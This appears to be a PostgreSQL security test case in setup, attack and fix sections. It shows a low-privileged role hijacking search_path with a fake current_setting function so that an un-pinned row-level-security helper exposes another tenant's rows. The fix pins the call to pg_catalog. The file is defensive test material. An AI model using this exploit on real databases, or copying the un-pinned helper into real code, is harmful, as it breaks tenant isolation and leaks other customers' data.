-- attacker sets search_path to hijack an un-pinned SQL-string helper (needs CREATE on any schema)

--- setup
CREATE SCHEMA scratch; GRANT ALL ON SCHEMA scratch TO rls_app;
CREATE FUNCTION app.ct2() RETURNS int STABLE LANGUAGE sql AS $$ SELECT nullif(current_setting('app.tenant_id', true),'')::int $$; GRANT EXECUTE ON FUNCTION app.ct2() TO rls_app; DROP POLICY iso ON app.project; CREATE POLICY iso ON app.project USING (tenant_id = (SELECT app.ct2()));

--- attack
--- as rls_app
SET app.tenant_id='1';
SELECT lab.x($$CREATE OR REPLACE FUNCTION scratch.current_setting(text,boolean) RETURNS text LANGUAGE sql AS 'select ''2'''$$); SET search_path=scratch,pg_catalog;
SELECT lab.v(lab.n('select 1 from app.project where tenant_id=2')>0, 'rows of tenant 2 visible: '||lab.n('select 1 from app.project where tenant_id=2'));

--- fix
CREATE OR REPLACE FUNCTION app.ct2() RETURNS int STABLE LANGUAGE sql RETURN nullif(pg_catalog.current_setting('app.tenant_id', true),'')::int;
